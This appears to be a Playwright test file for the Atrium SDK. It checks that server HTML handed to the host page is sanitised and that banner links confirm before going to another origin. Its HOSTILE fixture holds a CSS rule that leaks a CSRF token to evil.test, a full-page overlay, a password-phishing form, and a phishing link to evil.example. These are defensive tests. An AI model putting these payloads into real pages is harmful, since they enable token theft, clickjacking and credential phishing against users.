// biome-ignore-all lint/suspicious/noExplicitAny: page.evaluate code reads the untyped Atrium global
// Issue 32 items 7 and 8: server markup handed to the host comes confined, and links in server rich
// text go through the external-link rule. Item 7: with `ui: 'host'` the `sensitive` event (the
// tenant's tip) and the `batchTask` event (an instant message's text) carry `html` in the same
// confined profile as `message`: no global <style>, no page cover, no form. Item 8: a link in the
// batch banner (the SDK's own drawing) asks before it takes the page to another origin.
import { expect, openBlank, runInit, test } from '../embed/support';
import { weakSensitiveAnswer } from '../support/answers';

const HOSTILE =
  '<style>input[name=csrf][value^=a]{background:url(https://evil.test/a)}</style>' +
  '<div style="position:fixed;inset:0;z-index:2147483647">cover</div>' +
  '<form action="https://evil.test/steal"><input type="password" name="p"><button>go</button></form>' +
  '<b>kept</b>';

const confined = (html: string) => {
  expect(html).toContain('<b>kept</b>');
  expect(html).not.toMatch(/<style|position\s*:|<form|<input|<button|evil\.test/i);
};

test('item 7: the sensitive event carries the tip as confined html', async ({ page, demo }) => {
  await demo.fault({
    path: '/api/demo/sensitive',
    body: weakSensitiveAnswer('x', [{ name: 'Block', value: 'x' }], HOSTILE),
  });
  await openBlank(page);
  expect((await runInit(page, 'session', { extra: { ui: 'host' } })).ok).toBe(true);
  await page.evaluate(() => {
    const w = window as any;
    w.Atrium.on('sensitive', (e: any) => {
      w.__sensitive = { tip: e.tip, html: e.html };
      e.cancel();
    });
    w.Atrium.request({ url: '/api/demo/sensitive', method: 'POST', data: {} }).catch(() => {});
  });
  const got = await page.waitForFunction(() => (window as any).__sensitive).then((h) => h.jsonValue());
  expect(got.tip).toBe(HOSTILE);
  confined(got.html);
});

test('item 7: the batchTask event carries the content as confined html', async ({ page }) => {
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 1_000);
  await openBlank(page);
  await page.evaluate(() => {
    const w = window as any;
    w.__im = [];
    window.addEventListener('message', (e) => {
      if (e.data?.source === 'atrium') w.__im.push(e.data);
    });
  });
  expect((await runInit(page, 'session', { extra: { ui: 'host' } })).ok).toBe(true);
  await page.evaluate(() => {
    const w = window as any;
    w.Atrium.on('batchTask', (r: any) => {
      w.__batch = r;
    });
  });
  await page.clock.runFor(2_100);
  const id = await page.evaluate(() => (window as any).__im[0]?.id);
  expect(id).toBeTruthy();
  await page.evaluate(
    ({ id, content }) =>
      window.postMessage(
        { id, command: 15422, type: 114, data: { taskId: 't1', failCount: 1, content } },
        location.origin,
      ),
    { id, content: HOSTILE },
  );
  const got = await page.waitForFunction(() => (window as any).__batch).then((h) => h.jsonValue());
  expect(got.content).toBe(HOSTILE);
  confined(got.html);
});

test('item 8: a link in the batch banner asks before it leaves for another origin', async ({ page }) => {
  await openBlank(page);
  expect((await runInit(page, 'session')).ok).toBe(true);
  const start = page.url();
  await page.evaluate(() =>
    (window as any).Atrium.showBatchTaskResult({
      taskId: 't2',
      failCount: 1,
      content: 'failed rows: <a href="https://evil.example/phish" id="x">see here</a>',
    }),
  );
  const link = page.locator('[data-testid=atrium-batch-banner] a', { hasText: 'see here' });
  await link.click();
  await expect(page.getByTestId('atrium-link-confirm')).toBeVisible();
  expect(page.url()).toBe(start);
  await page.getByTestId('atrium-link-cancel').click();
  await expect(page.getByTestId('atrium-link-confirm')).toHaveCount(0);
  expect(page.url()).toBe(start);
});
